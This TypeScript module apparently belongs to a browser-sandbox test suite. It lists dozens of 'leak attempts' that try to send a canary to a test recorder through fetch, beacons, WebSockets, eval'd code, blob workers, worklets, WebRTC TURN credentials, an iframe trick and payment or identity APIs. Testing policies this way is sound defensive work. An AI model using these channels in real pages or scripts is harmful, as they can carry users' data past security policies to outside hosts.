import { EVERYWHERE, type LeakAttempt, PAGE, WORKERS } from './attempt.ts';

/** Requests that a script makes by itself: rows 1, 2, 6, 7, 10 and 11. */
const REQUESTS: readonly LeakAttempt[] = [
  { name: 'fetch', row: 1, contexts: EVERYWHERE, arrivesAt: 'recorder', run: ({ address }) => fetch(address) },
  {
    name: 'fetch-no-cors',
    row: 1,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => fetch(address, { mode: 'no-cors' }),
  },
  {
    name: 'fetch-post',
    row: 1,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address, canary }) => fetch(address, { method: 'POST', mode: 'no-cors', body: canary }),
  },
  {
    name: 'fetch-keepalive',
    row: 1,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address, canary }) => fetch(address, { method: 'POST', mode: 'no-cors', keepalive: true, body: canary }),
  },
  {
    name: 'fetch-header',
    row: 1,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address, canary }) => fetch(address, { headers: { 'X-Canary': canary } }),
  },
  {
    name: 'fetch-later',
    blind: true,
    row: 1,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const host = globalThis as unknown as { fetchLater(address: string, options: object): unknown };
      host.fetchLater(address, { activateAfter: 0 });
    },
  },
  {
    name: 'xhr',
    row: 1,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address, canary }) => {
      const request = new XMLHttpRequest();
      request.open('POST', address);
      request.send(canary);
    },
  },
  {
    name: 'xhr-synchronous',
    row: 1,
    contexts: WORKERS,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const request = new XMLHttpRequest();
      request.open('GET', address, false);
      request.send();
    },
  },
  {
    name: 'beacon',
    row: 1,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ address, canary }) => navigator.sendBeacon(address, canary),
  },
  {
    name: 'cache-add',
    row: 1,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: async ({ address }) => (await caches.open('leak')).add(new Request(address, { mode: 'no-cors' })),
  },
  {
    name: 'event-source',
    row: 2,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      new EventSource(address);
    },
  },
  {
    name: 'websocket',
    row: 2,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      new WebSocket(address.replace('http:', 'ws:'));
    },
  },
  {
    name: 'websocket-secure',
    row: 2,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ secure }) => {
      new WebSocket(secure.replace('https:', 'wss:'));
    },
  },
  {
    name: 'websocket-stream',
    row: 2,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const { WebSocketStream } = globalThis as unknown as { WebSocketStream: new (address: string) => unknown };
      new WebSocketStream(address.replace('http:', 'ws:'));
    },
  },
  {
    name: 'web-transport',
    row: 2,
    contexts: EVERYWHERE,
    arrivesAt: 'listener',
    run: ({ listener }) => {
      const { WebTransport } = globalThis as unknown as { WebTransport: new (address: string) => unknown };
      new WebTransport(`https://${listener}/`);
    },
  },
  {
    name: 'font-face',
    row: 3,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => new FontFace('leak', `url(${address})`).load(),
  },
];

/** Text that becomes code, and code from elsewhere. */
const CODE: readonly LeakAttempt[] = [
  {
    name: 'eval',
    row: 6,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    // Later: what the debugger calls at once may use `eval` under any policy.
    run: ({ address }) => {
      const code = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      setTimeout(() => {
        // eslint-disable-next-line no-eval -- the attempt is to do it
        (0, eval)(code);
      }, 1);
    },
  },
  {
    name: 'new-function',
    row: 6,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const code = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      setTimeout(() => {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attempt is to do it
        (new Function(code) as () => void)();
      }, 1);
    },
  },
  {
    name: 'timer-of-text',
    row: 6,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const code = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      setTimeout(() => {
        (setTimeout as (code: string, delay: number) => void)(code, 1);
      }, 1);
    },
  },
  { name: 'import', row: 6, contexts: EVERYWHERE, arrivesAt: 'recorder', run: `import('ADDRESS')` },
  {
    name: 'import-scripts',
    blind: true,
    row: 7,
    contexts: WORKERS,
    arrivesAt: 'recorder',
    run: `importScripts('ADDRESS')`,
  },
  {
    name: 'nested-worker-of-text',
    row: 7,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const script = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
    },
  },
  {
    name: 'module-worker-of-data',
    row: 7,
    contexts: EVERYWHERE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const script = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      new Worker(`data:text/javascript,${encodeURIComponent(script)}`, { type: 'module' });
    },
  },
  {
    name: 'shared-worker-of-text',
    row: 7,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const script = `fetch(${JSON.stringify(address)}, { mode: 'no-cors' })`;
      new SharedWorker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
    },
  },
  {
    name: 'audio-worklet',
    row: 7,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ address }) => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(address),
  },
  {
    name: 'paint-worklet',
    row: 7,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const { paintWorklet } = CSS as unknown as { paintWorklet: { addModule(address: string): Promise<void> } };
      return paintWorklet.addModule(address);
    },
  },
];

/** Connections that no fetch makes. */
const OTHER: readonly LeakAttempt[] = [
  {
    name: 'webrtc-stun',
    row: 10,
    contexts: PAGE,
    arrivesAt: 'listener',
    run: async ({ listener }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${listener}` }] });
      connection.createDataChannel('leak');
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
  {
    name: 'webrtc-turn',
    row: 10,
    contexts: PAGE,
    arrivesAt: 'listener',
    run: async ({ listener, canary }) => {
      const connection = new RTCPeerConnection({
        iceServers: [{ urls: `turn:${listener}?transport=tcp`, username: canary, credential: canary }],
      });
      connection.createDataChannel('leak');
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
  {
    name: 'webrtc-through-a-frame',
    row: 10,
    contexts: PAGE,
    // Chromium 156 ends the renderer that tries it under an allowlist.
    leavesPage: true,
    endsProcess: true,
    arrivesAt: 'listener',
    run: async ({ listener, canary }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const fresh = frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection };
      const connection = new fresh.RTCPeerConnection({
        iceServers: [{ urls: `turn:${listener}?transport=tcp`, username: canary, credential: canary }],
      });
      connection.createDataChannel('leak');
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
  {
    name: 'fedcm',
    row: 11,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ secure }) => {
      const provider = { configURL: secure, clientId: 'x' };
      return navigator.credentials.get({ identity: { providers: [provider] } } as CredentialRequestOptions);
    },
  },
  {
    name: 'payment-manifest',
    row: 11,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ secure }) => {
      const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
      return new PaymentRequest([{ supportedMethods: secure }], { total }).canMakePayment();
    },
  },
  {
    name: 'attribution-source',
    row: 11,
    contexts: PAGE,
    arrivesAt: 'recorder',
    run: ({ address }) => {
      const image = new Image();
      image.setAttribute('attributionsrc', address);
      image.src = address;
    },
  },
];

export const BY_SCRIPT: readonly LeakAttempt[] = [...REQUESTS, ...CODE, ...OTHER];
